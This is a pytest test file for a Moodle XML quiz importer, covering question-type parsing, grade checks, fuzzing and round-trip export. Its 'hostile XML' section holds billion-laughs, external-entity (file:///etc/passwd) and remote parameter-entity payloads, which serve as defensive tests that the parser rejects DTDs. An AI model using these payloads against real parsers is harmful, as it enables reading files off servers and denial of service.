"""Moodle XML: reading every question type, refusing what cannot be a question, writing back."""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from certplatform.content.contracts import (
    AcceptedAnswer,
    Choice,
    MatchPair,
    Media,
    NumericAnswer,
    QuestionContent,
    QuestionDraft,
    QuestionType,
)
from certplatform.content.formats import moodle_grades, moodle_xml
from certplatform.content.formats.base import ImportFormatError, ItemError, ParseResult

# --- watching for file and network access -------------------------------------------------

_opened: list[str] | None = None


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _opened is not None and event in ("open", "urllib.Request", "socket.connect"):
        _opened.append(f"{event} {args[0]!r}")


sys.addaudithook(_audit)


@contextmanager
def watch_access() -> Iterator[list[str]]:
    """Collects every file open and network request made inside the block."""
    global _opened
    _opened = []
    try:
        yield _opened
    finally:
        _opened = None


# --- a sample quiz with every question type ------------------------------------------------

SAMPLE = """<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <!-- question: 0 -->
  <question type="category">
    <category><text>$course$/top/Radio Regulations</text></category>
    <info format="html"><text></text></info>
    <idnumber>REG</idnumber>
  </question>
  <question type="category">
    <category><text>$course$/top/Radio Regulations/Licensing</text></category>
    <info format="html"><text>Licence classes</text></info>
    <idnumber></idnumber>
  </question>
  <question type="multichoice">
    <name><text>Licence term</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>How long is it valid?</p><img src="@@PLUGINFILE@@/licence.png">]]></text>
      <file name="licence.png" path="/" encoding="base64">iVBORw0K
        Ggo=</file>
    </questiontext>
    <generalfeedback><text><![CDATA[<p>See &sect; 97.25.</p>]]></text></generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber>T1C08</idnumber>
    <single>true</single>
    <shuffleanswers>false</shuffleanswers>
    <answernumbering>ABCD</answernumbering>
    <answer fraction="100" format="html">
      <text>10 years</text>
      <feedback format="html"><text>Correct.</text></feedback>
    </answer>
    <answer fraction="0" format="html">
      <text>5 years</text>
      <feedback format="html"><text></text></feedback>
    </answer>
    <answer fraction="50" format="html"><text>Lifetime</text></answer>
    <tags><tag><text>licensing</text></tag><tag><text> term </text></tag></tags>
  </question>
  <question type="multichoice">
    <name><text>Water</text></name>
    <questiontext format="html"><text>Which elements form water?</text></questiontext>
    <idnumber>MR-1</idnumber>
    <single>false</single>
    <shuffleanswers>1</shuffleanswers>
    <answer fraction="33.33333"><text>Hydrogen</text></answer>
    <answer fraction="66.66667"><text>Oxygen</text></answer>
    <answer fraction="-100"><text>Helium</text></answer>
    <answer fraction="0"><text></text></answer>
  </question>
  <question type="category">
    <category><text>$course$/top/Electronics</text></category>
  </question>
  <question type="truefalse">
    <name><text>Ohm</text></name>
    <questiontext format="moodle_auto_format"><text>Ohm's law is V = I × R.</text></questiontext>
    <generalfeedback format="html"><text>V equals I times R.</text></generalfeedback>
    <answer fraction="100"><text>true</text><feedback><text>Yes</text></feedback></answer>
    <answer fraction="0"><text>false</text></answer>
  </question>
  <question type="shortanswer">
    <name><text>Unit</text></name>
    <questiontext format="html"><text>The unit of resistance is the ____.</text></questiontext>
    <usecase>0</usecase>
    <answer fraction="100"><text>ohm</text><feedback><text>Right.</text></feedback></answer>
    <answer fraction="50"><text>Ω</text></answer>
  </question>
  <question type="numerical">
    <name><text>Wavelength</text></name>
    <questiontext format="html"><text>Wavelength in metres at 146 MHz?</text></questiontext>
    <answer fraction="100">
      <text>2.05</text><tolerance>0.05</tolerance><feedback><text>300/146</text></feedback>
    </answer>
    <answer fraction="50"><text>2</text><tolerance>0.2</tolerance></answer>
    <answer fraction="0"><text>*</text><feedback><text>Use 300/f.</text></feedback></answer>
    <units><unit><multiplier>1</multiplier><unit_name>m</unit_name></unit></units>
  </question>
  <question type="matching">
    <name><text>Prefixes</text></name>
    <questiontext format="html"><text>Match the prefixes.</text></questiontext>
    <shuffleanswers>true</shuffleanswers>
    <subquestion format="html"><text>kilo</text><answer><text>10^3</text></answer></subquestion>
    <subquestion format="html"><text>mega</text><answer><text>10^6</text></answer></subquestion>
    <subquestion format="html"><text></text><answer><text>10^9</text></answer></subquestion>
  </question>
  <question type="essay">
    <name><text>Propagation</text></name>
    <questiontext format="html"><text>Explain sky-wave propagation.</text></questiontext>
    <generalfeedback format="html"><text>Mention the ionosphere.</text></generalfeedback>
    <responseformat>editor</responseformat>
  </question>
  <question type="description">
    <name><text>Read this first</text></name>
    <questiontext format="html"><text>The next questions are about antennas.</text></questiontext>
  </question>
  <question type="calculated">
    <name><text>Calculated</text></name>
    <questiontext format="html"><text>What is {a} + {b}?</text></questiontext>
    <idnumber>CALC-1</idnumber>
  </question>
  <question type="multianswer">
    <name><text>Cloze</text></name>
    <questiontext format="html"><text>{1:SHORTANSWER:=ohm}</text></questiontext>
  </question>
  <question type="ddwtos">
    <name><text>Drag words</text></name>
    <questiontext format="html"><text>[[1]] and [[2]]</text></questiontext>
  </question>
  <question type="multichoice">
    <name><text>Broken figure</text></name>
    <questiontext format="html">
      <text>Which?</text>
      <file name="broken.png" path="/" encoding="base64">not base64 at all!</file>
    </questiontext>
    <answer fraction="100"><text>A</text></answer>
    <answer fraction="0"><text>B</text></answer>
  </question>
  <question type="multichoice">
    <name><text>One answer</text></name>
    <questiontext format="html"><text>Only one?</text></questiontext>
    <answer fraction="100"><text>Yes</text></answer>
  </question>
  <question type="numerical">
    <name><text>Not a number</text></name>
    <questiontext format="html"><text>How many?</text></questiontext>
    <answer fraction="100"><text>three</text></answer>
  </question>
  <question type="category">
    <category><text>$course$/top</text></category>
  </question>
  <question type="essay">
    <questiontext format="html"><text>Anything to add?</text></questiontext>
  </question>
</quiz>
"""


@pytest.fixture(scope="module")
def sample() -> ParseResult:
    return moodle_xml.parse(SAMPLE.encode())


def test_sample_reads_every_supported_type_in_file_order(sample: ParseResult) -> None:
    assert [d.content.type for d in sample.drafts] == [
        QuestionType.SINGLE_CHOICE,
        QuestionType.MULTIPLE_RESPONSE,
        QuestionType.TRUE_FALSE,
        QuestionType.SHORT_ANSWER,
        QuestionType.NUMERIC,
        QuestionType.MATCHING,
        QuestionType.ESSAY,
        QuestionType.ESSAY,
    ]


def test_sample_refuses_what_cannot_be_a_question(sample: ParseResult) -> None:
    assert sample.errors == [
        ItemError(
            "question 9 (idnumber CALC-1 / name Calculated)",
            "unsupported question type calculated",
        ),
        ItemError("question 10 (name Cloze)", "unsupported question type multianswer"),
        ItemError("question 11 (name Drag words)", "unsupported question type ddwtos"),
        ItemError(
            "question 12 (name Broken figure)", "embedded file 'broken.png' is not valid base64"
        ),
        ItemError(
            "question 13 (name One answer)",
            "a single_choice question needs at least 2 choices",
        ),
        ItemError("question 14 (name Not a number)", "answer 1: 'three' is not a number"),
    ]


def test_single_choice_keeps_html_weights_feedback_media_and_filing(sample: ParseResult) -> None:
    draft = sample.drafts[0]
    assert draft.content == QuestionContent(
        type=QuestionType.SINGLE_CHOICE,
        stem='<p>How long is it valid?</p><img src="@@PLUGINFILE@@/licence.png">',
        choices=(
            Choice(id="A", text="10 years", weight=1.0, feedback="Correct."),
            Choice(id="B", text="5 years"),
            Choice(id="C", text="Lifetime", weight=0.5),
        ),
        explanation="<p>See &sect; 97.25.</p>",
        shuffle_choices=False,
    )
    assert draft.external_id == "T1C08"
    assert draft.title == "Licence term"
    assert (draft.subject, draft.subject_name) == ("REG", "Radio Regulations")
    assert (draft.topic, draft.topic_name) == ("Licensing", "Licensing")
    assert draft.tags == ("licensing", "term")
    assert draft.media == (
        Media(filename="licence.png", content_type="image/png", data=b"\x89PNG\r\n\x1a\n"),
    )
    assert draft.location == "question 1 (idnumber T1C08 / name Licence term)"


def test_multiple_response_uses_fractions_as_weights(sample: ParseResult) -> None:
    content = sample.drafts[1].content
    assert [(c.id, c.text, c.weight) for c in content.choices] == [
        ("A", "Hydrogen", 0.3333333),
        ("B", "Oxygen", 0.6666667),
        ("C", "Helium", -1.0),
    ]
    assert content.shuffle_choices is True


def test_true_false_short_answer_numeric_matching_essay(sample: ParseResult) -> None:
    true_false, short, numeric, matching, essay, unfiled = (d for d in sample.drafts[2:])
    assert true_false.content.true_false_answer is True
    assert true_false.content.explanation == "V equals I times R."
    assert (true_false.subject, true_false.topic) == ("Electronics", None)

    assert short.content.accepted_answers == (
        AcceptedAnswer(text="ohm", feedback="Right."),
        AcceptedAnswer(text="Ω", weight=0.5),
    )
    assert short.content.case_sensitive is False

    assert numeric.content.numeric_answers == (
        NumericAnswer(value=2.05, tolerance=0.05, feedback="300/146"),
        NumericAnswer(value=2.0, tolerance=0.2, weight=0.5),
    )

    assert matching.content.pairs == (
        MatchPair(left="kilo", right="10^3"),
        MatchPair(left="mega", right="10^6"),
    )
    assert essay.content.explanation == "Mention the ionosphere."
    assert (unfiled.subject, unfiled.title, unfiled.location) == (None, None, "question 15")


@pytest.mark.parametrize(
    ("path", "filing"),
    [
        ("$course$/top/Subject/Topic", ("Subject", "Subject", "Topic", "Topic")),
        ("$course$/top/Subject/Topic/Deeper", ("Subject", "Subject", "Topic", "Topic")),
        ("$system$/top/A//B/C", ("A/B", "A/B", "C", "C")),
        ("$course$/top", (None, None, None, None)),
        ("top/Only", ("Only", "Only", None, None)),
    ],
)
def test_category_paths(path: str, filing: tuple[str | None, ...]) -> None:
    doc = f"""<quiz>
      <question type="category"><category><text>{path}</text></category></question>
      <question type="essay"><questiontext><text>Why?</text></questiontext></question>
    </quiz>"""
    (draft,) = moodle_xml.parse(doc.encode()).drafts
    assert (draft.subject, draft.subject_name, draft.topic, draft.topic_name) == filing


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (b"", "not well-formed XML at line 1, column 1"),
        (b"<quiz><question>", "not well-formed XML at line 1, column 17"),
        (b"<quiz/>\n<quiz/>", "not well-formed XML at line 2, column 1"),
        (b"<questions/>", "not a Moodle XML quiz: the root element is <questions>"),
        (b'<?xml version="1.0" encoding="no-such"?><quiz/>', "cannot read the XML"),
    ],
)
def test_whole_file_problems_raise_import_format_error(doc: bytes, message: str) -> None:
    with pytest.raises(ImportFormatError, match=message.replace("(", r"\(")):
        moodle_xml.parse(doc)


def test_too_deep_nesting_is_a_format_error() -> None:
    doc = b"<quiz>" + b"<a>" * 500 + b"</a>" * 500 + b"</quiz>"
    with pytest.raises(ImportFormatError, match="nested deeper"):
        moodle_xml.parse(doc)


# --- grades: what Moodle's importer refuses, refused here ----------------------------------


def _multichoice(*fractions: str, single: bool = False, name: str = "Gases") -> bytes:
    answers = "".join(
        f'<answer fraction="{f}"><text>choice {n}</text></answer>' for n, f in enumerate(fractions)
    )
    return f"""<quiz>
      <question type="multichoice">
        <name><text>{name}</text></name>
        <questiontext><text>Which are noble gases?</text></questiontext>
        <idnumber>GAS-1</idnumber>
        <single>{"true" if single else "false"}</single>
        {answers}
      </question>
      <question type="essay"><questiontext><text>Why?</text></questiontext></question>
    </quiz>""".encode()


def test_a_grade_moodle_does_not_allow_refuses_the_question_by_name() -> None:
    result = moodle_xml.parse(_multichoice("100", "35", single=True))
    assert [d.content.type for d in result.drafts] == [QuestionType.ESSAY]
    [error] = result.errors
    assert error.location == "question 1 (idnumber GAS-1 / name Gases)"
    assert error.message.startswith("answer 2: the grade 35% is not one Moodle allows")


@pytest.mark.parametrize(
    ("qtype", "answers"),
    [
        (
            "shortanswer",
            '<answer fraction="100"><text>ohm</text></answer>'
            '<answer fraction="45"><text>Ohm</text></answer>',
        ),
        (
            "numerical",
            '<answer fraction="100"><text>2</text></answer>'
            '<answer fraction="45"><text>*</text></answer>',
        ),
        # Moodle checks the grade of an empty answer too.
        (
            "multichoice",
            '<answer fraction="100"><text>a</text></answer>'
            '<answer fraction="0"><text>b</text></answer>'
            '<answer fraction="45"><text></text></answer>',
        ),
    ],
)
def test_every_graded_type_checks_every_answer(qtype: str, answers: str) -> None:
    doc = f"""<quiz><question type="{qtype}"><name><text>Q</text></name>
      <questiontext><text>?</text></questiontext>{answers}</question></quiz>"""
    [error] = moodle_xml.parse(doc.encode()).errors
    assert error.location == "question 1 (name Q)"
    assert "the grade 45% is not one Moodle allows" in error.message


def test_multiple_response_grades_must_add_up_to_100() -> None:
    result = moodle_xml.parse(_multichoice("30", "30", "30", "-100"))
    [error] = result.errors
    assert error.location == "question 1 (idnumber GAS-1 / name Gases)"
    assert error.message == "the positive grades add up to 90%, not 100%"
    [error] = moodle_xml.parse(_multichoice("100", "100", "0")).errors
    assert error.message == "the positive grades add up to 200%, not 100%"


@pytest.mark.parametrize(
    ("fractions", "weights"),
    [
        (("33.33333", "33.33333", "33.33333", "-25"), [0.3333333, 0.3333333, 0.3333333, -0.25]),
        (("50", "50", "-100"), [0.5, 0.5, -1.0]),
        # Within Moodle's tolerance of 0.00001: read as the grade Moodle stores.
        (("33.333", "66.667", "0"), [0.3333333, 0.6666667, 0.0]),
        (("14.28571",) * 7, [0.1428571] * 7),
    ],
)
def test_allowed_grades_import_as_moodle_stores_them(
    fractions: tuple[str, ...], weights: list[float]
) -> None:
    result = moodle_xml.parse(_multichoice(*fractions))
    assert result.errors == []
    assert [c.weight for c in result.drafts[0].content.choices] == weights


def test_a_grade_just_outside_moodles_tolerance_is_refused() -> None:
    [error] = moodle_xml.parse(_multichoice("33.3", "33.3", "33.4")).errors
    assert "the grade 33.3% is not one Moodle allows" in error.message


def test_single_choice_with_allowed_partial_credit_imports() -> None:
    result = moodle_xml.parse(_multichoice("100", "50", "-25", "0", single=True))
    assert result.errors == []
    assert [c.weight for c in result.drafts[0].content.choices] == [1.0, 0.5, -0.25, 0.0]


# --- hostile XML ---------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="essay"><questiontext><text>&lol9;</text></questiontext></question></quiz>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "file:///etc/passwd">
<quiz/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<quiz/>
"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_and_nothing_is_read(doc: bytes) -> None:
    started = time.monotonic()
    with watch_access() as accessed, pytest.raises(ImportFormatError, match="DTD") as caught:
        moodle_xml.parse(doc)
    assert accessed == []
    assert "root:" not in str(caught.value)  # nothing of /etc/passwd leaks into the message
    assert time.monotonic() - started < 1


def test_audit_hook_sees_file_access() -> None:
    """The check above would notice a read: opening a file inside the block is recorded."""
    with watch_access() as accessed, open(__file__, "rb"):
        pass
    assert any(__file__ in entry for entry in accessed)


# --- nothing but ImportFormatError escapes -------------------------------------------------


def _parse_or_format_error(data: bytes) -> ParseResult | None:
    try:
        result = moodle_xml.parse(data)
    except ImportFormatError:
        return None
    assert isinstance(result, ParseResult)
    for error in result.errors:
        assert error.location.startswith("question ")
        assert error.message
    return result


@settings(max_examples=300)
@given(st.binary(max_size=3000))
def test_any_bytes_give_a_result_or_an_import_format_error(data: bytes) -> None:
    _parse_or_format_error(data)


@settings(max_examples=300)
@given(st.text(max_size=2000))
def test_any_text_gives_a_result_or_an_import_format_error(text: str) -> None:
    _parse_or_format_error(text.encode("utf-8", "surrogatepass"))


TOKENS = [
    b"<",
    b">",
    b"</answer>",
    b"<answer>",
    b'fraction="',
    b'fraction="nan"',
    b'fraction="1e999"',
    b'fraction="-1e400"',
    b'fraction="sNaN"',
    b"<text>",
    b"</text>",
    b"<![CDATA[",
    b"]]>",
    b"&amp;",
    b"&#0;",
    b"&unknown;",
    b'<file name="a.png" encoding="base64">',
    b'<file name="">',
    b"</file>",
    b'<question type="category"><category><text>/</text></category></question>',
    b'<question type="matching">',
    b'<question type="numerical">',
    b'<question type="truefalse">',
    b'<question type="shortanswer">',
    b'<question type="">',
    b"<tolerance>-1</tolerance>",
    b"<tolerance>inf</tolerance>",
    b"<single>false</single>",
    b"<subquestion><text>x</text></subquestion>",
    b"<!DOCTYPE quiz>",
    b"\xff\xfe",
    b"\x00",
]


@settings(max_examples=500, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_sample_gives_a_result_or_an_import_format_error(data: st.DataObject) -> None:
    doc = SAMPLE.encode()
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(doc)))
        end = data.draw(st.integers(start, min(len(doc), start + 30)))
        insert = data.draw(st.one_of(st.sampled_from(TOKENS), st.binary(max_size=12)))
        doc = doc[:start] + insert + doc[end:]
    _parse_or_format_error(doc)


_XML_CHARS = st.characters(exclude_categories=("Cs", "Cc", "Cn"))
_ANY_VALUE = st.one_of(
    st.text(_XML_CHARS, max_size=12),
    st.sampled_from(["", "0", "100", "-100", "50.5", "1e999", "nan", "inf", "true", "false", "*"]),
)


@settings(max_examples=300)
@given(
    qtype=st.one_of(
        st.sampled_from(
            [
                "multichoice",
                "truefalse",
                "shortanswer",
                "numerical",
                "matching",
                "essay",
                "description",
                "calculated",
                "",
            ]
        ),
        st.text(_XML_CHARS, max_size=10),
    ),
    stem=st.text(_XML_CHARS, max_size=20),
    answers=st.lists(st.tuples(_ANY_VALUE, _ANY_VALUE, _ANY_VALUE), max_size=4),
    single=_ANY_VALUE,
    file=st.tuples(st.text(_XML_CHARS, max_size=8), st.text(_XML_CHARS, max_size=12)),
    category=st.text(_XML_CHARS, max_size=20),
)
def test_well_formed_questions_with_any_values_become_a_draft_or_an_item_error(
    qtype: str,
    stem: str,
    answers: list[tuple[str, str, str]],
    single: str,
    file: tuple[str, str],
    category: str,
) -> None:
    parts = [
        f"<answer fraction={quoteattr(f)}><text>{escape(t)}</text>"
        f"<tolerance>{escape(tol)}</tolerance></answer>"
        for f, t, tol in answers
    ]
    parts += [
        f"<subquestion><text>{escape(t)}</text><answer><text>{escape(f)}</text></answer>"
        "</subquestion>"
        for f, t, _ in answers
    ]
    doc = f"""<quiz>
      <question type="category"><category><text>{escape(category)}</text></category></question>
      <question type={quoteattr(qtype)}>
        <questiontext><text>{escape(stem)}</text>
          <file name={quoteattr(file[0])}>{escape(file[1])}</file></questiontext>
        <single>{escape(single)}</single>
        {"".join(parts)}
      </question>
    </quiz>"""
    result = moodle_xml.parse(doc.encode())
    expected = 0 if qtype in ("description", "category") else 1
    assert len(result.drafts) + len(result.errors) == expected


# --- writing -------------------------------------------------------------------------------

FIELDS = (
    "content",
    "external_id",
    "title",
    "subject",
    "subject_name",
    "topic",
    "topic_name",
    "tags",
    "media",
)


def assert_same_questions(read: list[QuestionDraft], written: list[QuestionDraft]) -> None:
    assert len(read) == len(written)
    for got, want in zip(read, written, strict=True):
        for name in FIELDS:
            assert getattr(got, name) == getattr(want, name), name


def _draft(content: QuestionContent, **filing: Any) -> QuestionDraft:
    return QuestionDraft(content=content, **filing)


ROUND_TRIP = [
    _draft(
        QuestionContent(
            type=QuestionType.SINGLE_CHOICE,
            stem="<p>Which <b>one</b>?</p>",
            choices=(
                Choice(id="A", text="One", weight=1.0, feedback="Yes"),
                Choice(id="B", text="Two", weight=0.3333333),
                Choice(id="C", text="<i>Three</i>", weight=-0.25),
            ),
            explanation="Because & so on.",
            shuffle_choices=False,
        ),
        external_id="SC-1",
        title="Single",
        subject="LAW",
        subject_name="Radio law",
        topic="LIC",
        topic_name="Licences / permits",
        tags=("law", "licences"),
        media=(Media(filename="fig 1.png", content_type="image/png", data=b"\x89PNG\x00"),),
    ),
    _draft(
        QuestionContent(
            type=QuestionType.MULTIPLE_RESPONSE,
            stem="Pick the primes.",
            choices=(
                Choice(id="A", text="2", weight=0.3333333),
                Choice(id="B", text="3", weight=0.3333333),
                Choice(id="C", text="5", weight=0.3333333),
                Choice(id="D", text="4", weight=-1.0, feedback="4 = 2 × 2"),
            ),
        ),
        external_id="MR-1",
        subject="LAW",
        subject_name="Radio law",
        topic="LIC",
        topic_name="Licences / permits",
    ),
    _draft(
        QuestionContent(type=QuestionType.TRUE_FALSE, stem="Is it?", true_false_answer=False),
        subject="LAW",
        subject_name="Radio law",
    ),
    _draft(
        QuestionContent(
            type=QuestionType.SHORT_ANSWER,
            stem="Capital of France?",
            accepted_answers=(
                AcceptedAnswer(text="Paris", feedback="Oui"),
                AcceptedAnswer(text="paris", weight=0.5),
                AcceptedAnswer(text="Lyon", weight=0.0, feedback="Not quite"),
            ),
            case_sensitive=True,
        ),
        title="Capital",
    ),
    _draft(
        QuestionContent(
            type=QuestionType.NUMERIC,
            stem="Pi to 3 places?",
            numeric_answers=(
                NumericAnswer(value=3.142, tolerance=0.0005, feedback="Good"),
                NumericAnswer(value=22 / 7, weight=0.1),
            ),
        )
    ),
    _draft(
        QuestionContent(
            type=QuestionType.MATCHING,
            stem="Match units.",
            pairs=(
                MatchPair(left="ohm", right="resistance"),
                MatchPair(left="farad", right="capacitance"),
                MatchPair(left="henry", right="inductance"),
            ),
            shuffle_choices=False,
        ),
        subject="EL",
        subject_name="Electronics",
    ),
    _draft(
        QuestionContent(type=QuestionType.ESSAY, stem="Discuss.", explanation="Model answer."),
        subject="EL",
        subject_name="Electronics",
        tags=("essay",),
    ),
]


def test_every_type_reads_back_equal() -> None:
    result = moodle_xml.parse(moodle_xml.dump(ROUND_TRIP))
    assert result.errors == []
    assert_same_questions(result.drafts, ROUND_TRIP)


def test_three_correct_choices_are_written_as_moodle_writes_them_and_read_back() -> None:
    draft = _draft(
        QuestionContent(
            type=QuestionType.MULTIPLE_RESPONSE,
            stem="Pick the primes.",
            choices=(
                Choice(id="A", text="2", weight=1 / 3),
                Choice(id="B", text="3", weight=1 / 3),
                Choice(id="C", text="5", weight=1 / 3),
                Choice(id="D", text="4", weight=-0.5),
            ),
        ),
        external_id="MR-3",
    )
    written = moodle_xml.dump([draft])
    assert written.count(b'fraction="33.33333"') == 3
    assert b'fraction="-50"' in written
    result = moodle_xml.parse(written)
    assert result.errors == []
    weights = [c.weight for c in result.drafts[0].content.choices]
    assert weights == [0.3333333, 0.3333333, 0.3333333, -0.5]


def test_dump_refuses_a_weight_moodle_would_refuse() -> None:
    draft = _draft(
        QuestionContent(
            type=QuestionType.MULTIPLE_RESPONSE,
            stem="Pick two.",
            choices=(
                Choice(id="A", text="a", weight=0.35),
                Choice(id="B", text="b", weight=0.65),
                Choice(id="C", text="c"),
            ),
        ),
        external_id="MR-35",
    )
    with pytest.raises(ValueError, match="question MR-35: the grade 35% is not one Moodle allows"):
        moodle_xml.dump([draft])


def test_dump_writes_categories_only_where_filing_changes() -> None:
    written = moodle_xml.dump(ROUND_TRIP).decode()
    assert written.count('type="category"') == 5
    assert "<text>$course$/top/Radio law/Licences // permits</text>" in written
    assert "<idnumber>LAW</idnumber>" in written


def test_numeric_range_is_written_as_midpoint_and_tolerance() -> None:
    draft = _draft(
        QuestionContent(
            type=QuestionType.NUMERIC,
            stem="Between 1 and 3?",
            numeric_answers=(NumericAnswer(min=1.0, max=3.0),),
        )
    )
    (read,) = moodle_xml.parse(moodle_xml.dump([draft])).drafts
    assert read.content.numeric_answers == (NumericAnswer(value=2.0, tolerance=1.0),)


def test_subject_without_name_reads_back_with_code_as_name() -> None:
    draft = _draft(QuestionContent(type=QuestionType.ESSAY, stem="Why?"), subject="S1", topic="T1")
    (read,) = moodle_xml.parse(moodle_xml.dump([draft])).drafts
    assert (read.subject, read.subject_name, read.topic, read.topic_name) == (
        "S1",
        "S1",
        "T1",
        "T1",
    )


def test_dump_drops_characters_xml_cannot_hold() -> None:
    draft = _draft(QuestionContent(type=QuestionType.ESSAY, stem="bell\x07 and \x0b\ufffe end"))
    (read,) = moodle_xml.parse(moodle_xml.dump([draft])).drafts
    assert read.content.stem == "bell and  end"


def test_dump_of_nothing_is_an_empty_quiz() -> None:
    assert moodle_xml.parse(moodle_xml.dump([])) == ParseResult()


# Text that Moodle keeps as-is: anything XML 1.0 holds, without carriage returns, which XML
# parsers turn into line feeds.
_TEXT_CHARS = st.characters(exclude_categories=("Cs", "Cc", "Cn"), include_characters="\n\t")
_text = st.text(_TEXT_CHARS, min_size=1, max_size=30).filter(lambda t: t.strip() != "")
_word = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Cn", "Z"), exclude_characters="/"),
    min_size=1,
    max_size=10,
)
_weight_share = st.sampled_from([0.0, -0.25, -0.5, -1.0, 0.3333333, 0.5])
# Moodle's grade for a share of 1/n, n = 1..6.
_SHARES = {1: 1.0, 2: 0.5, 3: 0.3333333, 4: 0.25, 5: 0.2, 6: 0.1666667}
_GRADES = [float(g) for g in moodle_grades.GRADES if g >= 0]


@st.composite
def _contents(draw: st.DrawFn) -> QuestionContent:
    kind = draw(st.sampled_from(list(QuestionType)))
    common: dict[str, Any] = {
        "type": kind,
        "stem": draw(_text),
        "explanation": draw(st.one_of(st.just(""), _text)),
        "shuffle_choices": draw(st.booleans()),
    }
    feedback = st.one_of(st.none(), _text)
    if kind in (QuestionType.SINGLE_CHOICE, QuestionType.MULTIPLE_RESPONSE):
        count = draw(st.integers(2, 6))
        if kind is QuestionType.SINGLE_CHOICE:
            weights = [1.0] + [draw(_weight_share) for _ in range(count - 1)]
        else:
            right = draw(st.integers(1, count))
            weights = [_SHARES[right]] * right + [
                draw(st.sampled_from([0.0, -0.5, -1.0])) for _ in range(count - right)
            ]
        common["choices"] = tuple(
            Choice(id=chr(ord("A") + n), text=draw(_text), weight=w, feedback=draw(feedback))
            for n, w in enumerate(weights)
        )
    elif kind is QuestionType.TRUE_FALSE:
        common["true_false_answer"] = draw(st.booleans())
    elif kind is QuestionType.SHORT_ANSWER:
        weights = [1.0, *draw(st.lists(st.sampled_from([0.0, 0.5, 0.1, 1.0]), max_size=3))]
        common["accepted_answers"] = tuple(
            AcceptedAnswer(text=draw(_text), weight=w, feedback=draw(feedback)) for w in weights
        )
        common["case_sensitive"] = draw(st.booleans())
    elif kind is QuestionType.NUMERIC:
        finite = st.floats(allow_nan=False, allow_infinity=False, width=64)
        common["numeric_answers"] = tuple(
            NumericAnswer(
                value=draw(finite),
                tolerance=draw(st.floats(0, 1e6)),
                weight=draw(st.sampled_from(_GRADES)) if number else 1.0,
                feedback=draw(feedback),
            )
            for number in range(draw(st.integers(1, 3)))
        )
    elif kind is QuestionType.MATCHING:
        common["pairs"] = tuple(
            MatchPair(left=draw(_text), right=draw(st.text(_TEXT_CHARS, max_size=20)))
            for _ in range(draw(st.integers(2, 4)))
        )
    return QuestionContent.model_validate(common)


@st.composite
def _drafts(draw: st.DrawFn) -> QuestionDraft:
    subject = draw(st.one_of(st.none(), st.tuples(_word, _word)))
    topic = draw(st.one_of(st.none(), st.tuples(_word, _word))) if subject else None
    return QuestionDraft(
        content=draw(_contents()),
        external_id=draw(st.one_of(st.none(), _word)),
        title=draw(st.one_of(st.none(), _text)),
        subject=subject[0] if subject else None,
        subject_name=subject[1] if subject else None,
        topic=topic[0] if topic else None,
        topic_name=topic[1] if topic else None,
        tags=tuple(draw(st.lists(_word, max_size=3))),
    )


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_drafts(), max_size=5))
def test_generated_drafts_read_back_equal(drafts: list[QuestionDraft]) -> None:
    result = moodle_xml.parse(moodle_xml.dump(drafts))
    assert result.errors == []
    assert_same_questions(result.drafts, drafts)
